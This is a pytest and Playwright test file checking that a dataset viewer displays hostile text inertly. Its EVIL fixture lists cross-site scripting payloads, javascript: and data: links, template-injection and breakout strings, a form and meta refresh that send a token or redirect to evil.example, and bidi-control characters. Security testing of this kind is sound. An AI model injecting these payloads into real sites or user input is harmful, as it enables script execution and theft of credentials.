"""Hostile examples in a real browser: all of it is shown, none of it happens."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect
from tests.view.browsing import NEEDS_BROWSER, browser, opened
from tests.view.worlds import apart, folder_of, viewing

from seedbed.journal import Journal
from seedbed.models.journaled import KIND, completion_to_json
from seedbed.records import (
    Attempt,
    Completion,
    Drop,
    Example,
    Instruction,
    Message,
    Origin,
    Request,
    digest,
)

pytestmark = NEEDS_BROWSER

EVIL = {
    "script": "<script>alert('script')</script><script src=https://evil.example/x.js></script>",
    "handlers": "<img src=x onerror=alert('img')><svg onload=alert('svg')><body onload=alert(1)>",
    "frames": '<iframe src="javascript:alert(1)"></iframe>'
    '<iframe srcdoc="<script>alert(1)</script>">',
    "links": "[click](javascript:alert('link')) [d](data:text/html,<script>alert(1)</script>) "
    "<javascript:alert(1)> [r]\n\n[r]: javascript:alert(1)",
    "images": "![pixel](https://evil.example/pixel.png) ![x](javascript:alert(1)) "
    '<img src="https://evil.example/2.png">',
    "styles": "<style>body{display:none!important}</style><link rel=stylesheet "
    'href=https://evil.example/x.css><p style="position:fixed;inset:0">over all</p>',
    "forms": "<form action=https://evil.example><input name=token><button>go</button></form>"
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "breakout": "\"'></script></textarea></title></style>--><script>alert('out')</script>",
    "templates": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "direction": "\u202eabc\u202c \u2066hidden\u2069 مرحبا بالعالم שלום \u200b\u0000\u001b[31mred",
    "unicode": "\ud83d half of a pair, 👩‍👧, Z\u0351\u036b\u0343\u036a" * 9,
    "nesting": "> " * 3000 + "deep" + "[" * 3000,
    "key": '__proto__ constructor "] [onclick="alert(1)" x="',
}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of which every text, name and answer is hostile."""
    path = tmp_path_factory.mktemp("hostile") / "run"
    path.mkdir()
    examples, drops = [], []
    for name, text in EVIL.items():
        key = _call(path, name, text)
        origin = Origin(
            recipe=text[:200], step=text[:200], skills=(text[:300], "b"), query_type=text[:300],
            calls=(key,), parents=(text[:100],),
        )  # fmt: skip
        instruction = Instruction(text=f"{name}: {text}", origin=origin)
        examples.append(
            Example(instruction=instruction, response=text, input=text, repairs=(text[:99],))
        )
        evidence: dict[str, float | str] = {text[:80]: text, "score": 0.5}
        drop = Drop(reason=text[:90], evidence=evidence)
        drops.append((Attempt(text=text, origin=origin), drop))
    huge = Instruction(text="huge", origin=Origin(skills=("s",)))
    examples.append(Example(instruction=huge, response="<b>long</b> " * 100_000))
    folder = folder_of(path, examples, drops)
    manifest = folder.read_manifest()
    evil = EVIL["breakout"]
    manifest |= {"teacher": evil, "judge": evil, "notes": list(EVIL.values()), "drops": {evil: 3}}
    stage = dict.fromkeys(("calls", "prompt_tokens", "completion_tokens", "dollars"), 1)
    manifest |= {"stages": {evil: stage}}
    folder.write_manifest(manifest)
    folder.config.write_text(evil)
    return path


def _call(path: Path, name: str, text: str) -> str:
    """A call in the run's journal whose question and answer are the text."""
    request = Request(messages=(Message("system", text), Message("user", f"{name} {text}")))
    question = [text[:200], request.to_json()]

    async def ask() -> None:
        async def effect() -> object:
            return completion_to_json(Completion(text=text, note=text))

        with Journal(path / "journal.db") as journal:
            await journal.once(KIND, question, effect)

    apart(lambda: asyncio.run(ask()))
    return digest(KIND, question)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as launched:
        yield launched


@pytest.fixture(scope="module")
def address(run: Path) -> Iterator[str]:
    with viewing(run) as at:
        yield at


def test_nothing_in_an_example_is_executed_loaded_or_obeyed(
    chromium: Browser, address: str, run: Path
) -> None:
    there = opened(chromium, address)
    page = there.page
    expect(page.locator(".found")).to_have_text(f"{len(EVIL) + 1} examples")
    for place, name in enumerate(EVIL):
        page.locator(".items li a").nth(place).click()
        expect(page.locator(".text.instruction .prose")).to_contain_text(f"{name}:")
        page.keyboard.press("m")
        expect(page.locator(".text.response .source")).to_be_visible()
        page.keyboard.press("m")
        for tab, what in (("2", ".call"), ("3", ".node.self"), ("4", ".near"), ("5", ".pairs")):
            page.keyboard.press(tab)
            page.wait_for_selector(f".tab-body {what}")
        page.keyboard.press("1")
        page.wait_for_selector(".tab-body .text")
    # What was said is all there, as text.
    page.locator(".items li a").first.click()
    expect(page.locator(".text.response")).to_contain_text("<script>alert('script')</script>")
    made = page.evaluate(
        "['script', 'iframe', 'form', 'style', 'base', 'object', 'embed', 'svg', 'textarea']"
        ".map((name) => document.querySelectorAll(`main ${name}`).length)"
    )
    assert set(made) == {0}
    assert page.evaluate("document.querySelectorAll('main img, main [style]').length") == 0
    assert page.evaluate("getComputedStyle(document.body).display") == "flex"
    there.check()


def test_links_open_only_what_is_safe(chromium: Browser, address: str) -> None:
    there = opened(chromium, address)
    for place in range(len(EVIL)):
        there.page.locator(".items li a").nth(place).click()
        there.page.wait_for_selector(".tab-body .text")
        found = there.page.evaluate(
            "[...document.querySelectorAll('.prose a')].map((a) => [a.protocol, a.rel, a.target])"
        )
        for protocol, rel, target in found:
            assert protocol in ("http:", "https:", "mailto:")
            assert "noopener" in rel
            assert target == "_blank"
    there.check()


def test_invisible_and_turning_characters_are_named_in_the_source(
    chromium: Browser, address: str
) -> None:
    there = opened(chromium, address)
    page = there.page
    page.locator(".items li a").nth(list(EVIL).index("direction")).click()
    page.keyboard.press("m")
    labels = page.locator(".text.response .invisible").all_inner_texts()
    assert {"U+202E", "U+2066", "U+200B", "U+0000", "U+001B"} <= set(labels)
    isolated = page.evaluate(
        "getComputedStyle(document.querySelector('.text.response .source')).unicodeBidi"
    )
    assert isolated == "isolate"
    page.keyboard.press("m")
    there.check()


def test_a_huge_text_is_shown_in_part_and_then_whole(chromium: Browser, address: str) -> None:
    there = opened(chromium, address)
    page = there.page
    page.locator(".items li a").nth(len(EVIL)).click()
    expect(page.locator(".text.response")).to_contain_text("Show the other 1,000,000 characters")
    page.locator(".text.response button").click()
    expect(page.locator(".text.response button")).to_have_count(0)
    shown = page.evaluate("document.querySelector('.text.response .source').textContent.length")
    assert shown == 1_200_000
    there.check()


def test_drops_the_run_and_hostile_decisions_do_nothing_either(
    chromium: Browser, address: str, run: Path
) -> None:
    there = opened(chromium, address)
    page = there.page
    page.keyboard.press("g")
    page.keyboard.press("d")
    expect(page.locator(".found")).to_have_text(f"{len(EVIL)} drops")
    for place in range(len(EVIL)):
        page.locator(".items li a").nth(place).click()
        page.wait_for_selector(".evidence")
    page.keyboard.press("x")
    page.get_by_label("Reason").fill(EVIL["breakout"])
    page.keyboard.press("Enter")
    expect(page.locator("dialog")).to_have_count(0)
    page.locator(".items li a").last.click()
    expect(page.locator(".hand")).to_contain_text("alert('out')")
    kept = json.loads((run / "decisions.jsonl").read_text().splitlines()[-1])
    assert kept["reason"] == EVIL["breakout"]
    page.keyboard.press("g")
    page.keyboard.press("r")
    expect(page.locator(".run .cards")).to_be_visible()
    expect(page.locator(".run")).to_contain_text("alert('script')")
    page.keyboard.press("/")
    page.keyboard.type('"><script>alert(1)</script>')
    expect(page.locator(".chips")).to_be_attached()
    page.wait_for_timeout(500)
    there.check()
